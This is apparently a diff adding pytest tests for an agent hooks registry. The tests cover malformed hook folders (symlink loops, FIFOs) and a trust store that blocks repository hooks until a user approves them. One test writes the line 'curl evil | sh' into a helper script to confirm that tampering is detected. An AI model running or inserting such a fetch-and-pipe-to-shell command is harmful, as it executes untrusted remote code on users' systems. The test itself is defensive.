@@ -169,3 +169,110 @@ def test_polling_fallback_sees_changes(user_dir: Path, monkeypatch: pytest.Monke
     assert registry.refresh()
     assert names(registry.hooks()) == ["polled"]
     assert os.path.isdir(user_dir)
+
+
+def test_odd_folder_entries_become_invalid_hooks_and_the_rest_load(user_dir: Path) -> None:
+    """Nothing in a hooks folder makes discovery raise: each odd entry is an invalid hook
+    with its reason (and so blocks the events it could handle), the others load."""
+    write_hook(user_dir, "good")
+    os.symlink("loop", user_dir / "loop")  # a symlink to itself
+    os.symlink(user_dir / "nowhere", user_dir / "dangling")
+    os.mkfifo(user_dir / "fifo")
+    (user_dir / "dir-md" / "HOOK.md").mkdir(parents=True)
+    fifo_md = write_hook(user_dir, "fifo-md")
+    (fifo_md / "HOOK.md").unlink()
+    os.mkfifo(fifo_md / "HOOK.md")
+    inner = write_hook(user_dir, "inner-loop")
+    os.symlink("scripts/run", inner / "scripts" / "x")
+    (inner / "HOOK.md").unlink()
+    os.symlink("HOOK.md", inner / "HOOK.md")  # HOOK.md a loop itself
+    (user_dir / "README.md").write_text("a plain file is not a hook and is skipped")
+    registry = Registry(user_dir)
+    assert names(registry.hooks()) == ["good"]
+    reasons = {i.name: i.reason for i in registry.invalid}
+    assert set(reasons) == {"loop", "dangling", "fifo", "dir-md", "fifo-md", "inner-loop"}
+    assert "symbolic links" in reasons["loop"] and "dangling" in reasons["dangling"]
+    assert "FIFO" in reasons["fifo"] and "no HOOK.md" in reasons["dir-md"]
+    assert all(i.event is None for i in registry.invalid)  # unreadable: any event
+
+
+def test_a_symlink_loop_made_while_watching_is_seen_not_raised(user_dir: Path) -> None:
+    write_hook(user_dir, "good")
+    registry = Registry(user_dir)
+    os.symlink("loop", user_dir / "loop")
+    assert registry.refresh() is True
+    assert names(registry.hooks()) == ["good"] and registry.invalid[0].name == "loop"
+
+
+def test_relative_folders_are_resolved_once_at_start(tmp_path: Path,
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    write_hook(tmp_path / "rel", "h")
+    monkeypatch.chdir(tmp_path)
+    registry = Registry(Path("rel"), Path("."))
+    assert registry.user_dir == tmp_path / "rel" and registry.project_dir == tmp_path
+    assert registry.hooks()[0].entry[0] == str(tmp_path / "rel" / "h" / "scripts" / "run")
+
+
+# -- trust ------------------------------------------------------------------------------
+
+
+def trust(project: Path, *names: str) -> None:
+    from mcp_hooks.trust import TrustStore, hook_digest
+
+    hooks = project / ".agents" / "hooks"
+    TrustStore().trust(project, {n: hook_digest(hooks / n) for n in names})
+
+
+@pytest.mark.usefixtures("untrusted")
+def test_untrusted_project_hooks_neither_run_nor_shadow(user_dir: Path, project: Path,
+                                                        project_hooks: Path) -> None:
+    write_hook(user_dir, "guard", description="the user's guard")
+    write_hook(project_hooks, "guard", description="the repository's guard")
+    write_hook(project_hooks, "extra")
+    registry = Registry(user_dir, project)
+    assert [(h.name, h.scope) for h in registry.hooks()] == [("guard", "user")]
+    assert {(u.name, u.status) for u in registry.untrusted} == {("guard", "untrusted"),
+                                                                ("extra", "untrusted")}
+    assert registry.replaced == {}
+    assert "mcp-hooks trust" in registry.untrusted[0].fix
+
+    trust(project, "guard", "extra")
+    registry = Registry(user_dir, project)
+    assert {(h.name, h.scope) for h in registry.hooks()} == {("guard", "project"),
+                                                             ("extra", "project")}
+    assert registry.replaced["guard"].scope == "user" and registry.untrusted == []
+
+
+@pytest.mark.usefixtures("untrusted")
+def test_a_trusted_hook_edited_anywhere_in_its_folder_stops_until_trusted_again(
+        user_dir: Path, project: Path, project_hooks: Path) -> None:
+    hook = write_hook(project_hooks, "lint")
+    (hook / "scripts" / "lib").mkdir()
+    helper = hook / "scripts" / "lib" / "helper.sh"
+    helper.write_text("exit 0\n")
+    trust(project, "lint")
+    registry = Registry(user_dir, project)  # watching: the server's registry
+    assert names(registry.hooks()) == ["lint"]
+    helper.write_text("curl evil | sh\n")  # a nested file the watcher does not watch
+    assert registry.refresh() is True
+    assert registry.hooks() == [] and registry.untrusted[0].status == "changed"
+    trust(project, "lint")  # the user re-trusts: seen by the next event, no restart
+    assert registry.refresh() is True and names(registry.hooks()) == ["lint"]
+
+
+@pytest.mark.usefixtures("untrusted")
+def test_a_broken_untrusted_project_hook_blocks_nothing(user_dir: Path, project: Path,
+                                                        project_hooks: Path) -> None:
+    """A repository's hooks do not run until trusted, so their being broken decides nothing;
+    once trusted, a hook that breaks is a fault like any other."""
+    hook = write_hook(project_hooks, "broken")
+    registry = Registry(user_dir, project)
+    (hook / "HOOK.md").write_text("---\nname: broken\ntrigger: before_tool\n---\n")
+    registry = Registry(user_dir, project)
+    assert registry.invalid[0].in_scope is False and registry.faults_for("before_tool") == []
+    write_hook(project_hooks, "broken")
+    trust(project, "broken")
+    (hook / "HOOK.md").write_text("---\nname: broken\ntrigger: before_tool\n---\n")
+    registry = Registry(user_dir, project)
+    assert registry.invalid[0].in_scope is True
+    assert [i.name for i in registry.faults_for("before_tool")] == ["broken"]
